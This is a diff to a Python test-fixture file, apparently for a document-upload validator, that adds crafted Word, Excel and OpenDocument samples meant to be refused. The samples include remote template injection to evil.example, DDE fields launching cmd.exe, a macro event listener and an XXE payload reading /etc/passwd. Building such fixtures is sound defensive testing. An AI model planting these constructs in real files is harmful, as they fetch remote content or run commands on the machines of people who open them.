@@ -128,10 +128,91 @@ def _lying_bomb() -> bytes:
 _XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
 
 
+_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def relations(kind: str, target: str, mode: str = ' TargetMode="External"', before: int = 0) -> bytes:
+    """The relations of a part: `before` links, and then this one."""
+    links = "".join(f'<Relationship Id="l{n}" Type="{_RELATIONS}/hyperlink" Target="https://voorbeeld.example/{n}" '
+                    'TargetMode="External"/>' for n in range(before))
+    return (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}'
+            f'<Relationship Id="r1" Type="{_RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>').encode()
+
+
+def field(*pieces: str, extra: str = "") -> bytes:
+    """A Word text with one field whose code is spread over these pieces."""
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return (f'<w:document xmlns:w="{_W}"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar '
+            f'w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r>{extra}</w:p></w:document>').encode()
+
+
+def open_document(body: str) -> bytes:
+    """The content of an OpenDocument file with this in it."""
+    names = "".join(f' xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{p}:1.0"' for p in
+                    ("office", "draw", "text", "meta", "script"))
+    return f'<office:document{names} xmlns:xlink="http://www.w3.org/1999/xlink">{body}</office:document>'.encode()
+
+
+def reaching_out() -> dict[str, tuple[str, bytes]]:
+    """Office files that fetch or start something when they are opened."""
+    evil = "https://evil.example/x.dotm"
+    rels = {"template": ("word__settings_dot_xml", "attachedTemplate"), "frame": ("word__webSettings_dot_xml", "frame"),
+            "subdocument": ("word__document_dot_xml", "subDocument"), "linked picture": ("word__document_dot_xml", "image"),
+            "linked object": ("word__document_dot_xml", "oleObject")}
+    found = {f"{what} elsewhere": ("plan.docx", ooxml(**{part.replace("word__", "word___rels__") + "_dot_rels": relations(
+        kind, evil)})) for what, (part, kind) in rels.items()}
+    return found | {
+        "template on a share": ("plan.docx", ooxml(word___rels__settings_dot_xml_dot_rels=relations(
+            "attachedTemplate", "file://evil.example/x.dotm", before=3_000))),
+        "template in a sheet": ("uren.xlsx", ooxml(filetypes.XLSX, xl___rels__workbook_dot_xml_dot_rels=relations(
+            "attachedTemplate", evil, ' TargetMode="EXTERNAL"'))),
+        "ole object": ("plan.docx", ooxml(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0")),
+        "ole object under another name": ("plan.docx", ooxml(word___rels__document_dot_xml_dot_rels=relations(
+            "oleObject", "embeddings/plan.bin", ""))),
+        "activex": ("plan.docx", ooxml(word__activeX__activeX1_dot_xml=b"<a/>")),
+        "link to another workbook": ("uren.xlsx", ooxml(filetypes.XLSX, xl__externalLinks__externalLink1_dot_xml=b"<e/>")),
+        "dde": ("plan.docx", ooxml(word__header2_dot_xml=field(" DDE", "AUTO c:\\x\\cmd.exe"))),
+        "dde in a simple field": ("plan.docx", ooxml(word__footnotes_dot_xml=field(
+            "PAGE", extra='<w:fldSimple w:instr=" dde cmd /k"/>'))),
+        "dde around another field": ("plan.docx", ooxml(word__tekst_dot_xml=field(
+            "DDE cmd ", extra='<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText>'))),
+        "odt frame elsewhere": ("brief.odt", odf(parts={"content.xml": open_document(
+            '<draw:floating-frame xlink:href="https://evil.example/"/>')})),
+        "odt picture elsewhere": ("brief.odt", odf(parts={"styles.xml": open_document(
+            '<draw:image xlink:href="//evil.example/x.png"/>')})),
+        "odt section of another file": ("brief.odt", odf(parts={"content.xml": open_document(
+            '<text:section-source xlink:href="../ander.odt"/>')})),
+        "odt template elsewhere": ("brief.odt", odf(parts={"meta.xml": open_document(
+            f'<meta:template xlink:href="{evil}"/>')})),
+        "odt ole object": ("brief.odt", odf(parts={"content.xml": open_document(
+            '<draw:object-ole xlink:href="./Object 1"/>')})),
+        "ods dde": ("kosten.ods", odf(filetypes.ODS, {"content.xml": open_document(
+            '<office:dde-source office:dde-application="cmd"/>')})),
+        "odt macro behind a button": ("brief.odt", odf(parts={"content.xml": open_document(
+            '<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Basic"/>')})),
+    }
+
+
+def staying_in() -> dict[str, tuple[str, bytes]]:
+    """Office files with links that somebody clicks on, and with what stands in the file itself."""
+    return {
+        "links": ("plan.docx", ooxml(word___rels__document_dot_xml_dot_rels=relations(
+            "hyperlink", "https://voorbeeld.example/", before=20_000))),
+        "chart with its numbers": ("plan.docx", ooxml(word__charts___rels__chart1_dot_xml_dot_rels=relations(
+            "package", "../embeddings/Microsoft_Excel_Sheet.xlsx", ""))),
+        "fields": ("plan.docx", ooxml(word__header1_dot_xml=field("PAGE", " \\* MERGEFORMAT"))),
+        "odt": ("brief.odt", odf(parts={
+            "content.xml": open_document('<text:a xlink:href="https://voorbeeld.example/">x</text:a>'
+                                         '<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>'),
+            "meta.xml": open_document('<meta:template xlink:href="../../Sjablonen/brief.ott"/>')})),
+    }
+
+
 def hostile() -> dict[str, tuple[str, bytes]]:
     """What it is -> name and content. Every one must be refused."""
     macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
-    return {
+    return reaching_out() | {
         "zip bomb": ("bom.docx", ooxml(word__media__a_dot_bin=b"\0" * 60_000_000)),
         "zip bomb that lies about its size": ("bom.docx", _lying_bomb()),
         "symlink in zip": ("koppeling.docx", _symlink()),
